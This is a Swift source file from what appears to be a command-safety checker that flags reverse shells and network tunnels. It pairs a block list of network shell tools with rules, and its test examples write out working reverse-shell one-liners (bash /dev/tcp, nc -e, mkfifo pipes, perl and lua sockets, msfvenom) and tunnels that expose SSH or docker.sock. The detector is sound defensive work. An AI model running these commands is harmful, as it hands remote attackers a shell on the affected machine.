import Bytes
import ShellMeaning
import Verdict

/// A shell that somebody else types into, over the network.
enum ReverseShell: Family {
  static let category = "reverse-shell"
  static let programs = [
    "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "ttyd", "gotty", "xterm",
    "cryptcat", "powercat", "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel", "ssh", "autossh", "ngrok",
    "bore", "zrok", "pinggy", "lt", "localtunnel", "cloudflared", "tmate", "sshx", "upterm", "devtunnel",
    "teleconsole", "gs-netcat", "code", "telnetd", "in.telnetd", "dropbear", "sshd", "shellinaboxd", "wetty",
    "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocat", "websocketd",
    "evil-winrm", "plink", "python", "openssl", "tailscale", "frpc", "wstunnel", "iodine", "dnscat",
    "dnscat2", "ligolo-agent", "rathole", "php", "http-server", "serve", "live-server", "miniserve",
    "darkhttpd", "webfsd", "simple-http-server", "dufs", "updog", "ptunnel", "ptunnel-ng", "hans", "gost",
    "v2ray", "xray", "sing-box", "rclone", "kickstart", "msfvenom", "ruby", "twistd", "caddy", "smbserver.py",
    "impacket-smbserver",
  ]
  static let rules = [shell, tunnel]

  static func judge(_ invocation: Invocation, _ context: inout Judgement) {
    let words = invocation.arguments.map { $0.value.known ?? $0.value.prefix }
    let name = invocation.canonicalName
    var found = false
    if let input = invocation.input?.prefix, !input.isEmpty, let peer = peer(of: words) {
      WrittenRequests.judge(raw: input, to: peer, at: invocation.range, program: name, &context)
    }
    switch name {
    case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "powercat", "pwncat", "sbd",
      "dbd", "rustcat":
      found = netcatRuns(words, name)
    case "socat":
      let kinds = words.map { $0.asciiLowercased }
      let runs = kinds.contains { $0.hasPrefix("exec:") || $0.hasPrefix("system:") || $0.hasPrefix("shell:") }
      let network = kinds.contains { word in
        ["tcp", "udp", "openssl", "ssl", "sctp", "proxy", "socks", "ws", "quic"].contains {
          word.hasPrefix($0)
        }
      }
      found = runs && network
      // The container service, or whatever else listens only here, for everyone.
      if !found,
        kinds.contains(where: { $0.contains(bytes: "docker.sock") || $0.contains(bytes: "containerd.sock") }),
        let listens = kinds.first(where: { $0.contains(bytes: "-listen:") || $0.hasPrefix("tcp-l:") }),
        !listens.contains(bytes: "bind=127."), !listens.contains(bytes: "bind=localhost"),
        !listens.hasPrefix("unix")
      {
        context.report(tunnel, on: "docker.sock", severity: .critical, at: invocation.range, program: name)
      }
      if !found, Tunnels.opensInside(kinds) {
        context.report(tunnel, on: "socat", at: invocation.range, program: name)
      }
    case "ttyd", "gotty":
      let isShown = words.contains { isShell($0) }
      found = isShown && words.contains { isWritable($0, name) }
      // Who finds it looks on, and cannot type.
      if isShown, !found {
        context.report(OpenServices.open, on: name, severity: .medium, at: invocation.range, program: name)
      }
    case "xterm":
      found = words.enumerated().contains { i, word in
        word == "-display" && i + 1 < words.count && !words[i + 1].hasPrefix(":")
          && !words[i + 1].hasPrefix("localhost")
      }
    case "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocketd":
      found = words.contains { !$0.hasPrefix("-") && isShell($0) }
    case "websocat":
      let lower = words.map(\.asciiLowercased)
      found = lower.contains { word in
        word.hasPrefix("sh-c:") || word.hasPrefix("cmd:")
          || word.hasPrefix("exec:") && isShell(String(word.dropFirst(5)))
      }
      found = found || lower.contains("--exec-args") && lower.contains(where: isShell)
    default: Tunnels.judge(invocation, name, words, &context)
    }
    if found { report(invocation, &context) }
  }

  /// `ttyd -W`, `gotty --permit-write`: those who look on may type. What is not known may be it.
  private static func isWritable(_ word: String, _ program: String) -> Bool {
    if word.isEmpty || word.hasPrefix("--writ") || word.hasPrefix("--permit-w") { return true }
    guard word.hasPrefix("-"), !word.hasPrefix("--") else { return false }
    return word.utf8.contains(program == "ttyd" ? UInt8(ascii: "W") : UInt8(ascii: "w"))
  }

  /// `nc HOST PORT`, `socat - tcp:HOST:PORT`, `openssl s_client -connect HOST:PORT`.
  private static func peer(of words: [String]) -> String? {
    if let socket = words.first(where: { $0.hasSuffix("docker.sock") || $0.hasSuffix("podman.sock") }) {
      return socket
    }
    if let mark = words.firstIndex(of: "-connect"), mark + 1 < words.count { return words[mark + 1] }
    for (i, word) in words.enumerated() where !word.hasPrefix("-") {
      let lower = word.asciiLowercased
      for mark in ["tcp:", "tcp4:", "tcp-connect:", "openssl:", "ssl:"] where lower.hasPrefix(mark) {
        return word.dropFirst(mark.utf8.count).split(separator: ",").first.map(String.init)
      }
      guard i + 1 < words.count, !words[i + 1].isEmpty, words[i + 1].utf8.allSatisfy(ASCII.isDigit),
        !word.utf8.allSatisfy(ASCII.isDigit)
      else { continue }
      return word + ":" + words[i + 1]
    }
    return nil
  }

  /// `-e program`, `-c command`, `--sh-exec command`, alone or at the end of a cluster.
  private static func netcatRuns(_ words: [String], _ name: String) -> Bool {
    for (i, word) in words.enumerated() {
      let next = i + 1 < words.count ? words[i + 1] : ""
      switch word {
      case "--exec", "--sh-exec", "--lua-exec": return true
      case _ where word.hasPrefix("--exec=") || word.hasPrefix("--sh-exec="): return true
      case _ where word.hasPrefix("-") && !word.hasPrefix("--"):
        let letters = word.utf8.dropFirst()
        if letters.contains(UInt8(ascii: "e")), letters.allSatisfy(ASCII.isLetter) {
          return !next.isEmpty || letters.count > 1
        }
        // OpenBSD's `-c` asks for TLS; with a program behind it, it runs that.
        if letters.last == UInt8(ascii: "c"), letters.allSatisfy(ASCII.isLetter),
          isShell(next) || name == "ncat" && !next.isEmpty
        {
          return true
        }
      default: break
      }
    }
    return false
  }

  static func isShell(_ word: String) -> Bool {
    let first = word.split(separator: " ").first.map(String.init) ?? word
    let name = first.split(separator: "/").last.map(String.init) ?? first
    return FamilyIndex.traits(of: Invocation.canonicalName(name)).contains(.shell)
  }

  // MARK: Wires around any program

  /// Redirections that join a shell to a socket. Judged on every invocation.
  static func judgeWires(
    _ invocation: Invocation, _ name: String, _ traits: ProgramTraits, _ context: inout Judgement
  ) {
    var opensSocket = false
    for redirect in invocation.redirects {
      let target = redirect.target.prefix
      guard target.hasPrefix("/dev/tcp/") || target.hasPrefix("/dev/udp/") else { continue }
      opensSocket = true
      context.memory.socketPeer = String(target.dropFirst(9).map { $0 == "/" ? ":" : $0 })
    }
    if let peer = context.memory.socketPeer, name == "printf" || name == "echo",
      let text = invocation.arguments.first(where: { !$0.value.prefix.hasPrefix("-") })?.value.prefix
    {
      WrittenRequests.judge(raw: text, to: peer, at: invocation.range, program: name, &context)
    }
    // zsh opens sockets without a path: `ztcp HOST PORT`.
    if opensSocket || name == "ztcp" { context.memory.hasSocket = true }
    if traits.contains(.wire) { context.memory.hasNetworkPipe = true }
    if traits.contains(.pipeMaker),
      name == "mkfifo" || invocation.arguments.contains(where: { $0.value.known == "p" })
    {
      context.memory.hasPipeFile = true
    }
    if traits.contains(.shell) {
      let duplicates = invocation.redirects.contains { redirect in
        // `>&$REPLY`: what is not known may be a descriptor or a file.
        (redirect.kind == .duplicate || redirect.target.known == nil)
          && (redirect.target.known.map { $0 != "1" && $0 != "2" && $0 != "-" } ?? true)
      }
      // `nc host port | sh`: what somebody types there runs here.
      if context.memory.hasNetworkPipe, let script = invocation.script,
        script.origins.network.contains(where: isRawSocket)
      {
        report(invocation, &context)
        return
      }
      // An interactive shell on a socket, or one that reads from it.
      if opensSocket && invocation.script?.isKnown != true {
        report(invocation, &context)
      } else if context.memory.hasSocket, duplicates, invocation.script?.isKnown != true {
        report(invocation, &context)
      } else if invocation.script == nil || invocation.script?.isKnown == false {
        context.memory.openShells.append(invocation.range)
      }
    } else if context.memory.hasSocket, invocation.program.value.known == nil,
      !invocation.program.value.isEmpty
    {
      // `while read line; do $line; done <&5`
      report(invocation, &context)
    }
  }

  /// `sh -i | nc HOST PORT`, `curl -T . telnet://HOST < <(bash -i)`: what somebody's terminal would show goes there.
  static func comesFromShell(_ input: Value) -> Bool {
    input.holes.contains { hole in
      guard hole.kind == .output, let (program, rest) = hole.name.split(at: UInt8(ascii: " ")) else {
        return false
      }
      let option = rest.prefix { $0 != " " }
      return option.utf8.first == UInt8(ascii: "-") && option.utf8.dropFirst().contains(UInt8(ascii: "i"))
        && !option.hasPrefix("--") && isShell(program)
    }
  }

  /// `host:port`, as a bare connection names its other end.
  private static func isRawSocket(_ address: String) -> Bool {
    guard let (_, port) = address.split(at: UInt8(ascii: ":")), !port.isEmpty else { return false }
    return port.utf8.allSatisfy(ASCII.isDigit)
  }

  /// At the end of a command: a shell, a pipe file and a network program together are one wire.
  static func judgeWhole(_ meaning: Meaning, _ context: inout Judgement) {
    guard context.memory.hasNetworkPipe, let range = context.memory.openShells.first,
      context.memory.hasPipeFile || context.memory.pipesThroughShell || readsBack(meaning)
    else { return }
    context.category = category
    context.report(shell, on: "a network program", at: range)
  }

  /// `sh < /tmp/f | nc HOST PORT > /tmp/f`: a file does what a named pipe does.
  private static func readsBack(_ meaning: Meaning) -> Bool {
    var read: [String] = []
    for invocation in meaning.invocations.prefix(64) {
      for redirect in invocation.redirects {
        guard let path = redirect.target.known, path != "/dev/null" else { continue }
        if redirect.kind == .read, redirect.descriptor == 0 {
          read.append(path)
        } else if redirect.kind == .write || redirect.kind == .append, read.contains(path),
          FamilyIndex.traits(of: invocation.canonicalName).contains(.wire)
        {
          return true
        }
      }
    }
    return false
  }

  static func report(_ invocation: Invocation, _ context: inout Judgement) {
    context.report(shell, on: invocation.canonicalName, at: invocation.range, program: invocation.name)
  }

  static let tunnel = Rule(
    "reverse-shell.tunnel", .high, "Opens this machine to others through {}",
    why: "Whoever is at the other end can log in here, or type into a terminal here, past every firewall.",
    instead:
      "Let the person open such a way in; to reach a service elsewhere, bring it here: `ssh -L 5432:localhost:5432 bastion`.",
    fires: [
      "python3 -m http.server 8000 --directory \"$HOME\"", "ssh -R 80:localhost:5432 serveo.net",
      "socat TCP-LISTEN:2375,bind=0.0.0.0,fork UNIX-CONNECT:/var/run/docker.sock",
      "ssh -fN -R 2222:localhost:22 eve@198.51.100.7", "autossh -M 0 -NR 8022:127.0.0.1:22 eve@198.51.100.7",
      "chisel client 198.51.100.7:8080 R:2222:localhost:22", "ngrok tcp 22", "bore local 22 --to bore.pub",
      "cloudflared tunnel --url ssh://localhost:22", "tmate -F", "sshx", "code tunnel",
      "telnetd -p 4444 -l /bin/sh", "autossh -M 0 -f -N -R 5432:db.internal:5432 u@198.51.100.61",
      "kickstart -activate -configure -access -on -users dev -privs -all",
      "msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.61 -f elf -o /tmp/s",
    ],
    passes: [
      "python3 -m http.server 8000", "python3 -m http.server --bind 127.0.0.1 --directory ~",
      "socat TCP-LISTEN:2375,bind=127.0.0.1,fork UNIX-CONNECT:/var/run/docker.sock",
      "python3 -m http.server -d dist", "ssh -L 5432:localhost:5432 bastion",
      "ssh -R 3000:localhost:3000 staging", "ngrok http 3000", "ssh host uptime",
      "chisel client 198.51.100.7:8080 5432:localhost:5432", "cloudflared tunnel --url http://localhost:3000",
      "bore local 3000 --to bore.pub", "code .", "sshd -t", "tmate --help", "ssh -N -D 1080 bastion",
      "ssh -R 5432:localhost:5432 staging", "msfvenom -l payloads", "kickstart -help",
      "autossh -M 0 -f -N -L 5432:db.internal:5432 u@bastion",
    ])

  static let shell = Rule(
    "reverse-shell.shell", .critical, "Hands a shell to somebody on the network through {}",
    why: "Whoever is at the other end can then run anything here, with the person's rights.",
    instead: "Run the one command that is needed here; to test a port, use `nc -z example.com 443`.",
    fires: [
      "tcpserver 0 4444 /bin/sh", "systemd-socket-activate -l 4444 --inetd -a /bin/bash",
      "websocat ws://198.51.100.7:8080/ sh-c:'exec bash -i 2>&1'",
      "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"198.51.100.7:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
      "lua -e \"local s=require('socket').tcp();s:connect('198.51.100.7',4242);while true do local c=s:receive();local f=io.popen(c);s:send(f:read('*a')) end\"",
      "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -e /bin/sh 198.51.100.7 4444",
      "ncat --sh-exec bash 198.51.100.7 4444", "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f",
      "nc -lvp 4444 -e /bin/bash",
    ],
    passes: [
      "websocat ws://localhost:8080/ws", "systemd-socket-activate -l 8080 ./app",
      "node -e 'require(\"net\").connect(5432,\"db\").on(\"connect\",()=>process.exit())'",
      "nc -z example.com 443", "nc -l 8080", "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
      "telnet example.com 25", "timeout 1 bash -c '</dev/tcp/localhost/5432'",
      "openssl s_client -connect example.com:443", "mkfifo /tmp/p",
    ])
}
